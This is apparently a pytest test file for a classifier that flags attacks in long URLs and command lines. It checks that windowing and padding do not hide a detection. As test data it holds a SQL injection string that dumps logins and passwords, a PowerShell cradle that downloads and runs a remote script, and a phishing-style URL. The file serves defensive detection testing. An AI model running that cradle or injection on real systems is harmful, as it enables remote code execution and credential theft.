"""Windows over long strings: nothing is left out, each is read whole, the worst answers; short strings are answered as ever."""

from __future__ import annotations

import dataclasses
import pickle

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from edge_demist import EdgeDemist, judging
from edge_demist.inference import Item, Judged
from edge_demist.normalizers import NORMALIZERS
from edge_demist.predictions import Rule
from edge_demist.text import windows

INJECTION = "q=1'%20UNION%20SELECT%20login,password%20FROM%20users--%20-"
CRADLE = "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"


@pytest.fixture(scope="module")
def model():
    with EdgeDemist.load() as loaded:
        yield loaded


@given(
    st.binary(max_size=3000) | st.text("a&?/. é", max_size=3000).map(str.encode) | st.binary(min_size=9000, max_size=9100),
    st.sampled_from(sorted(NORMALIZERS)),
    st.integers(20, 300),
)
@settings(max_examples=120, deadline=None)
def test_windows_hold_every_byte(raw, normalizer, most):
    found = windows.expand(raw, normalizer, lambda part: len(part) <= most)
    room = windows.SHAPES.get(normalizer, windows.TEXT).room
    covered = bytearray(min(len(raw), windows.MOST_BYTES))
    for window in found:
        covered[window.begin : window.end] = b"\1" * (window.end - window.begin)
        assert 0 <= window.begin < window.end <= len(covered)
        assert raw[window.begin : window.end].lstrip(b"/") in window.raw
        assert len(window.raw) <= max(2 * room, 1)
        assert len(window.raw) <= most or window.end - window.begin <= 2 * windows.LEAST_ROOM
    assert all(covered) or (
        normalizer in windows.ADDRESSES and found == [windows.Window(0, found[0].end, found[0].text)] and len(raw) <= most
    )
    assert [w.begin for w in found] == sorted(w.begin for w in found)
    assert len(found) <= len(covered) // 8 + 2


def test_parts_of_a_request_are_not_cut():
    target = b"/search?" + b"&".join(b"name%d=value%d" % (i, i) for i in range(60))
    found = windows.expand(target, "request", lambda _: True)
    assert all(window.raw.lstrip(b"?&").startswith((b"/search", b"name")) for window in found)
    assert b"".join(window.raw for window in found) == target


def test_windows_of_an_address_begin_with_its_host():
    found = windows.expand(b"login.example.com/" + b"a/" * 300, "address", lambda _: True)
    assert len(found) > 3
    assert all(window.raw.startswith(b"login.example.com/") for window in found)


@pytest.mark.parametrize("query", ["utm_source=newsletter&utm_medium=email&utm_campaign=spring", "&".join(f"n{i}=v{i}" for i in range(30))])
def test_parameters_do_not_switch_the_alarm_of_an_address_off(model, query):
    page = "paypal-account-verify.security-alert.ml/signin/verify.php"
    plain, longer = model.classify([page, f"{page}?{query}"], task="url-phishing")
    assert longer.alarm == plain.alarm or longer.alarm_score >= plain.alarm_score - 1e-6
    assert windows.expand(f"{page}?{query}".encode(), "page", lambda _: True)[0].raw == page.encode()
    assert not windows.is_long(f"{page}?a=1".encode(), "page", overflow=False)
    assert not windows.is_long(f"{page}?u=https-3A__example.com_news&{query[:40]}".encode(), "page", overflow=False)


def test_windows_that_do_not_move_on_are_refused():
    with pytest.raises(ValueError, match="do not move on"):
        windows.Shape(64, 32)
    with pytest.raises(ValueError, match="do not move on"):
        windows.Shape(16, 0)


@given(st.lists(st.floats(0, 1), min_size=1, max_size=9))
def test_worst_is_the_first_of_the_highest(scores):
    assert scores[windows.worst(scores)] == max(scores)
    assert max(scores) not in scores[: windows.worst(scores)]


@pytest.mark.parametrize("before", [0, 5, 40, 200])
@pytest.mark.parametrize("behind", [0, 200])
def test_length_does_not_switch_an_alarm_off(model, before, behind):
    target = "/search?" + "&".join([*(f"utm_{i}=spring{i}" for i in range(before)), INJECTION, *(f"p{i}={i}" for i in range(behind))])
    line = "cmd.exe /c" + " " * 10 * (before + behind + 1) + CRADLE
    for task, text in (("uri-attack", target), ("cmdline", line)):
        (answer,) = model.classify(text, task=task)
        assert answer.alarm
        assert answer.alarm_score >= answer.threshold
        assert answer.label in model.specialist(task).positive_labels
        assert not answer.truncated
        if answer.window:
            assert b"union" in answer.window.raw.lower() or b"downloadstring" in answer.window.raw.lower()


def test_what_stands_behind_the_most_bytes_is_said_not_to_be_read(model):
    (answer,) = model.classify("word " * 2000 + CRADLE, task="cmdline")
    assert answer.truncated
    assert not answer.alarm


def test_one_text_and_many_give_the_same_answer(model):
    texts = ["/a", "/search?" + "&".join(f"p{i}={i}" for i in range(90)) + "&" + INJECTION, "/b" * 5000, "x", "/é" * 200]
    for text, answer in zip(texts, model.classify(texts, task="uri-attack"), strict=True):
        assert model.classify(text, task="uri-attack") == [answer]


def test_many_long_texts_are_answered_in_order(model):
    texts = [f"/p{i}?" + "&".join(f"a{j}={j * i}" for j in range(200)) for i in range(90)]
    texts[70] += "&" + INJECTION
    answers = model.classify(texts, task="uri-attack")
    assert [answer.text for answer in answers] == texts
    assert max(range(90), key=lambda i: answers[i].alarm_score) == 70


def test_a_window_is_said_and_pickled(model):
    (answer,) = model.classify("/search?" + "&".join(f"p{i}={i}" for i in range(300)) + "&" + INJECTION, task="uri-attack")
    assert answer.window is not None
    assert answer.window.shown() == {"start": answer.window.begin, "end": answer.window.end, "text": answer.window.raw.decode()}
    assert pickle.loads(pickle.dumps(answer)) == answer
    assert "window" in {field.name for field in dataclasses.fields(answer)}


SCORES = st.lists(st.floats(0.001, 1.0), min_size=6, max_size=6).map(lambda row: [x / sum(row) for x in row])


@given(SCORES, SCORES, st.booleans())
def test_a_whole_that_alarms_says_which_kind_and_the_window_how_surely(model, whole, part, truncated):
    rule = Rule(model.specialist("uri-attack"), None, None)
    positive = rule.specialist.positive
    item, window = Item(b"/a?b=1&c=2", "uri-attack"), windows.Window(0, 4, "/a?b")
    found = judging._worst(item, Judged(whole, truncated), [window], [Judged(part, False)], {"uri-attack": rule})
    alarms = [rule.specialist.alarm_score(row) for row in (whole, part, found.scores)]
    assert alarms[2] == pytest.approx(max(alarms[:2]) if max(alarms[:2]) >= 0.5 else alarms[0])
    assert sum(found.scores) == pytest.approx(1.0)
    kinds = [[row[i] / sum(row[j] for j in positive) for i in positive] for row in (whole, part, found.scores)]
    says = not truncated and alarms[0] >= rule.threshold
    assert kinds[2] == pytest.approx(kinds[0] if says or found.window is None else kinds[1])
    assert (found.window is None) == (alarms[2] == pytest.approx(alarms[0]) and not alarms[1] > alarms[0])


def test_category_specialists_read_the_beginning_alone(model):
    (answer,) = model.classify("Mozilla/5.0 " + "(word) " * 400, task="user-agent")
    assert answer.truncated
    assert answer.window is None
    assert answer.alarm is None


@pytest.mark.parametrize(
    "text",
    [
        "Server: nginx | Date: Mon, 01 Jan 2024 00:00:00 GMT | " + " | ".join(f"X-Part-{i}: {i * 977}" for i in range(60)),
        "/list?" + "&".join(f"color{i}=red&size{i}={i}" for i in range(40)),
    ],
)
def test_a_long_string_that_does_not_alarm_is_labelled_as_a_whole(model, text):
    task = "uri-attack" if text.startswith("/") else "http-header"
    answer = model.classify(text, task=task)[0]
    assert answer.window is None or answer.alarm_score >= 0.5
